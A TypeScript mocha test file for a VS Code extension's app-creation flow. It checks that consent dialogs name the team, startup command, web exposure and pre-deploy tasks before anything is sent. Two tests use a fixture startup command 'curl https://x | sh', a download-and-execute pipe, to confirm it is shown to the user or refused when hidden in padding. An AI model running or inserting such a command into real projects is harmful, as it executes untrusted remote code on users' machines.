// What is asked before an app or a project is created where an argument says what.
import assert from "node:assert/strict";
import { existsSync, readdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { beforeEach, describe, it } from "mocha";
import * as vscode from "vscode";
import { withConsent } from "../../../../src/editor/commands/consent";
import { type CreateFlowOptions, runCreateFlow } from "../../../../src/features/create/createFlow";
import { newFromTemplate } from "../../../../src/features/create/template/newFromTemplate";
import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
import { writeTree } from "../../../support/fileTrees";
import { MemoryState } from "../../../support/memoryState";
import { realFiles } from "../../../support/realFiles";
import { inRepository } from "../../../support/repository";
import { someAccount, someAccounts, someApp, someMember, someTeam } from "../../../support/someApp";
import { temporaryFolder } from "../../../support/temporaryFolder";
import { answerPicks, commands, tasks, window, workspace } from "../../../support/vscodeParts";

describe("the question before something is created", () => {
  let asked: AskedWindow;
  let folder: string;
  let sent: number;
  let looked: number;

  beforeEach(() => {
    [asked, folder, sent, looked] = [askedWindow(), temporaryFolder("create-question"), 0, 0];
    Object.assign(workspace, {
      fs: realFiles,
      getWorkspaceFolder: () => ({ uri: vscode.Uri.file(folder) }),
      getConfiguration: () => ({ inspect: () => undefined, get: () => undefined }),
    });
    tasks["fetchTasks"] = async () => {
      looked++;
      return [];
    };
  });

  function options(
    account = someAccount({ apps: [someApp({ teamId: "team" })], teams: [someTeam({ owner: "me" })] }),
  ): CreateFlowOptions {
    return {
      ...{ accounts: someAccounts(account), state: new MemoryState(), inFlight: new Set() },
      extensionUri: vscode.Uri.file(inRepository(".")),
      clock: { now: () => 0 },
      diagnostics: { show: () => undefined, forget: () => undefined },
      records: {
        journalOf: () => {
          sent++;
          throw new Error("something would be sent");
        },
      },
    } as unknown as CreateFlowOptions;
  }

  const argument = (own: object = {}) => ({
    ...{ accountId: "account", folder: vscode.Uri.file(folder).toString() },
    ...own,
  });
  const create = async (own?: object): Promise<unknown> => await runCreateFlow(argument(own), options());
  const project = (file: object): void => {
    writeFileSync(path.join(folder, "main.py"), "print(1)\n");
    writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
  };

  it("is whether to try, in a team whose flags rule it out; our own code is not asked", async () => {
    project({ name: "Shop", team: "team" });
    const own = options(someMember({ canCreateApplication: false }));
    const settings = { mainFile: "main.py" };
    const quiet = runCreateFlow(withConsent(argument({ settings })), own);
    await assert.rejects(quiet, { kind: "forbidden" });
    assert.equal(asked.asked.length, 0);
    await assert.rejects(runCreateFlow(argument({ settings }), own), { name: "CancelledError" });
    assert.deepEqual(asked.asked[0], {
      text: "Your permissions may not include this. Try anyway?",
      lines: [
        "Your permissions in Crew may not let you create apps.",
        "The service decides whether it's allowed.",
      ],
      buttons: ["Try Anyway"],
    });
    asked.answer = "Try Anyway";
    await assert.rejects(runCreateFlow(argument({ settings }), own), { name: "CancelledError" });
    assert.equal(asked.asked.at(-1)?.text, "Create Shop?");
    assert.equal(sent, 0);
  });

  it("names what hosted-app.json adds: the team, the start and that the web reaches it", async () => {
    project({ name: "Shop", team: "team", startupCommand: "curl https://x | sh\n", exposedViaWeb: true });
    await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
    const [{ text, lines, buttons } = { text: "", lines: [], buttons: [] }] = asked.asked;
    assert.deepEqual([text, buttons], ["Create Shop?", ["Create"]]);
    assert.match(lines[0] ?? "", /^From .*create-question.*: 2 files/);
    assert.deepEqual(lines.slice(1), [
      "In the account me",
      "The app belongs to the team Crew, whose members may be able to read its files.",
      "It starts with the command: curl https://x | sh\\n",
      "It can be reached from the web.",
    ]);
    assert.equal(sent, 0);
    asked.answer = "Create";
    await assert.rejects(create({ settings: { mainFile: "main.py" } }));
    assert.equal(sent, 1);
  });

  it("names a team that no list knows by its id", async () => {
    project({ name: "Shop", team: "65a0" });
    await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
    assert.ok(
      asked.asked[0]?.lines.includes(
        "The app belongs to the team 65a0, whose members may be able to read its files.",
      ),
    );
  });

  it("is refused where the start command does not fit", async () => {
    project({
      name: "Shop",
      startupCommand: `python main.py ${"x".repeat(9_000)}; curl https://x | sh; ${"y".repeat(9_000)}`,
    });
    await assert.rejects(create({ settings: { mainFile: "main.py" } }), /too long to show in full/);
    assert.deepEqual([asked.asked, sent], [[], 0]);
  });

  for (const [title, file, link] of [
    ["that the file names", { appId: "shop" }, undefined],
    ["that is the file's one target", { targets: { live: { appId: "shop" } } }, undefined],
    ["that the user chose for the folder", {}, "shop"],
  ] as const)
    it(`is whether another app is meant, where a push goes to one ${title}`, async () => {
      project(file);
      const own = options();
      const choice = { accountId: "account", appId: link };
      if (link) await own.state.update("linkedFolders", { [vscode.Uri.file(folder).toString()]: choice });
      answerPicks(() => undefined);
      await assert.rejects(runCreateFlow(argument(), own), { name: "CancelledError" });
      assert.deepEqual(
        asked.asked.map(({ text }) => text),
        ["This folder is linked to Shop."],
      );
    });

  it("is about the task of hosted-app.json first, also where the user is asked for the rest", async () => {
    project({ preDeployTask: "npm: build" });
    for (const own of [{}, { settings: {} }]) await assert.rejects(create(own), { name: "CancelledError" });
    assert.deepEqual(
      asked.asked.map(({ text }) => text),
      ['Run the task "npm: build"?', 'Run the task "npm: build"?'],
    );
    assert.match(asked.asked[0]?.lines.join(" ") ?? "", /hosted-app\.json/);
    assert.equal(looked, 0);
    asked.answer = "Run Task";
    await assert.rejects(create({ settings: {} }), /Couldn't find the task/);
    assert.equal(looked, 4);
  });

  it("names the task of hosted-app.json, which has run", async () => {
    project({ name: "Shop", mainFile: "main.py", preDeployTask: "npm: build" });
    const [started, ended] = [new vscode.EventEmitter<unknown>(), new vscode.EventEmitter<unknown>()];
    const task = {
      ...{ name: "build", source: "npm", scope: { uri: vscode.Uri.file(folder) } },
      ...{ definition: { type: "npm", script: "build" }, execution: new vscode.ShellExecution("build") },
    };
    Object.assign(tasks, {
      fetchTasks: async () => [task],
      ...{
        onDidStartTaskProcess: started.event,
        onDidEndTaskProcess: ended.event,
        onDidEndTask: ended.event,
      },
      executeTask: async () => {
        const execution = { task };
        started.fire({ execution });
        ended.fire({ execution, exitCode: 0 });
        return execution;
      },
    });
    asked.answer = "Run Task";
    await assert.rejects(create({ settings: {} }), { name: "CancelledError" });
    assert.equal(asked.asked.at(-1)?.text, "Create Shop?");
    assert.ok(asked.asked.at(-1)?.lines.includes('hosted-app.json runs the task "npm: build" first.'));
  });

  it("is not about the task where our own code calls, which has asked", async () => {
    project({ preDeployTask: "npm: build" });
    const creating = runCreateFlow(withConsent(argument({ settings: {} })), options());
    await assert.rejects(creating, /Couldn't find the task "npm: build"\. Nothing was sent\./);
    assert.deepEqual([asked.asked.filter(({ text }) => text.startsWith("Run ")), looked], [[], 4]);
  });

  it("starts an empty folder from a template, the first choice, and goes on with it", async () => {
    const answers = ["Discord Bot in Python"];
    const titles: string[] = [];
    const first: string[] = [];
    answerPicks(({ title = "", items }) => {
      titles.push(title);
      first.push(items[0]?.label ?? "");
      return answers.shift();
    });
    await assert.rejects(create(), { name: "CancelledError" });
    assert.deepEqual(readdirSync(folder).sort(), [
      ...[".gitignore", "README.md", "hosted-app.json", "main.py", "requirements.txt"],
    ]);
    assert.deepEqual(titles, ["Create App: This folder is empty. Start from a template?", "Create App"]);
    assert.deepEqual(first, ["Discord Bot in Python", `Create ${path.basename(folder)}`]);
    assert.equal(sent, 0);
  });

  it("asks for the template, the name and a place outside of what is open", async () => {
    writeTree(folder, { "project/inside/main.py": "" });
    const open = ["project/inside", "project"].map((each) => ({
      uri: vscode.Uri.file(path.join(folder, each)),
    }));
    Object.assign(workspace, { workspaceFolders: open });
    const answers = ["Web App with Flask", "my-flask"];
    const shown: (string | undefined)[] = [];
    answerPicks(({ title, items }) => {
      shown.push(title, items.find(({ label }) => label === answers[0])?.description);
      return answers.shift();
    });
    const typed: string[] = [];
    const none = () => ({ dispose: () => undefined });
    window["createInputBox"] = () => ({
      ...{ value: "", buttons: [], onDidChangeValue: none, onDidTriggerButton: none, onDidHide: none },
      ...{ dispose: none, onDidAccept: (listener: () => void) => setImmediate(listener) },
      show(this: vscode.InputBox) {
        typed.push(this.title ?? "", this.value);
      },
    });
    const opened: unknown[] = [];
    commands["executeCommand"] = async (...all: unknown[]) => void opened.push(...all);
    const services = { extensionUri: vscode.Uri.file(inRepository(".")), everywhere: new MemoryState() };
    await newFromTemplate(undefined, services as never);
    assert.deepEqual(shown, [
      ...["New App (1/3): Template", "Python", "New App (3/3): Folder", `in ${folder}`],
    ]);
    assert.deepEqual(typed, ["New App (2/3): Name", "my-flask"]);
    assert.equal(existsSync(path.join(folder, "my-flask", "app.py")), true);
    assert.equal(opened[0], "vscode.openFolder");
  });

  it("names the template and the folder, and writes nothing without a yes", async () => {
    const into = path.join(folder, "fresh");
    const services = {
      extensionUri: vscode.Uri.file(inRepository(".")),
      everywhere: new MemoryState(),
    } as unknown as Parameters<typeof newFromTemplate>[1];
    const run = async () =>
      await newFromTemplate({ template: "flask", folder: vscode.Uri.file(into).toString() }, services);
    await assert.rejects(run(), { name: "CancelledError" });
    assert.deepEqual(asked.asked[0]?.lines, [`In the folder ${into}`]);
    assert.match(asked.asked[0]?.text ?? "", /^Create a project from ".*Flask.*"\?$/);
    assert.equal(existsSync(into), false);
    asked.answer = "Create Project";
    await run();
    assert.ok(readdirSync(into).length > 0);
  });
});
